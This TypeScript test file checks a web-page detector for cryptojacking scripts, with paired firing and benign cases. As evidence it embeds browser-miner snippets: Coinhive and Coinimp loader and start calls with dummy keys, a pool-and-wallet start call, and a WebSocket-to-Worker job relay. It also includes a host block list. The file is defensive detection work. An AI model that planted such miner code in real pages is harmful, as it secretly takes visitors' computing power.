import { testCheck } from '../../../test/check-table.ts'
import { page } from '../../../test/evidence.ts'
import check from './cryptominer.ts'

const body = (html: string) => ({ page: page({ body: `<!doctype html><h1>Videos</h1>${html}` }) })
const KEY = 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6'

testCheck(check, {
  fires: [
    {
      name: 'Coinhive',
      evidence: body('<script src="https://coinhive.com/lib/coinhive.min.js"></script>'),
      outcome: 'known',
    },
    {
      name: 'its file, kept on the site',
      evidence: body('<script src="/js/cryptonight.min.js"></script>'),
      outcome: 'known',
    },
    {
      name: 'its interface',
      evidence: body(`<script>var miner = new CoinHive.Anonymous('${KEY}', { throttle: 0.5 }); miner.start()</script>`),
      outcome: 'known',
    },
    {
      name: 'Coinimp',
      evidence: body(
        `<script>var _client = new Client.Anonymous('${'0f'.repeat(32)}', { throttle: 0.3 }); _client.start()</script>`,
      ),
      outcome: 'known',
    },
    {
      name: 'a pool and a wallet',
      evidence: body(`<script>startMining('moneroocean.stream', '4${'A1b2'.repeat(20)}')</script>`),
      outcome: 'known',
    },
    {
      name: 'jobs over a socket, computed by workers',
      evidence: body(`<script>var ws = new WebSocket('wss://ws.proxy.example:8443'), workers = [new Worker('/w.js')]
        ws.onmessage = function (e) { var job = JSON.parse(e.data); workers[0].postMessage({ blob: job.blob, target: job.target, job_id: job.job_id }) }
        workers[0].onmessage = function (e) { ws.send(JSON.stringify({ type: 'submit', job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result })) }</script>`),
      outcome: 'pool',
    },
  ],
  silent: [
    {
      name: 'an article about Coinhive',
      evidence: body(
        '<p>coinhive.min.js and new CoinHive.Anonymous() were everywhere in 2018.</p><script src="/site.js"></script>',
      ),
      verdict: 'pass',
    },
    {
      name: 'a list of hosts to block',
      evidence: body(
        `<script>var block = ['coinhive.com', 'crypto-loot.com']; fetch('/report', { body: block.join() })</script>`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a queue of jobs over a socket',
      evidence: body(
        `<script>var ws = new WebSocket('wss://jobs.site.test'); var w = new Worker('/w.js'); ws.onmessage = function (e) { var m = JSON.parse(e.data); show(m.job_id, m.result) }</script>`,
      ),
      verdict: 'pass',
    },
    {
      name: 'WebAssembly that plays films',
      evidence: body(
        `<script>WebAssembly.instantiateStreaming(fetch('/av1.wasm')).then(function (m) { new WebSocket('wss://live.site.test') })</script>`,
      ),
      verdict: 'pass',
    },
    {
      name: 'another Client',
      evidence: body(`<script>var c = new Client.Anonymous('guest'); c.start()</script>`),
      verdict: 'pass',
    },
    {
      name: 'a captcha for miners of ore',
      evidence: body('<script src="/js/miner-map.js"></script>'),
      verdict: 'pass',
    },
    { name: 'no scripts', evidence: body('<p>x'), verdict: 'skip' },
  ],
})
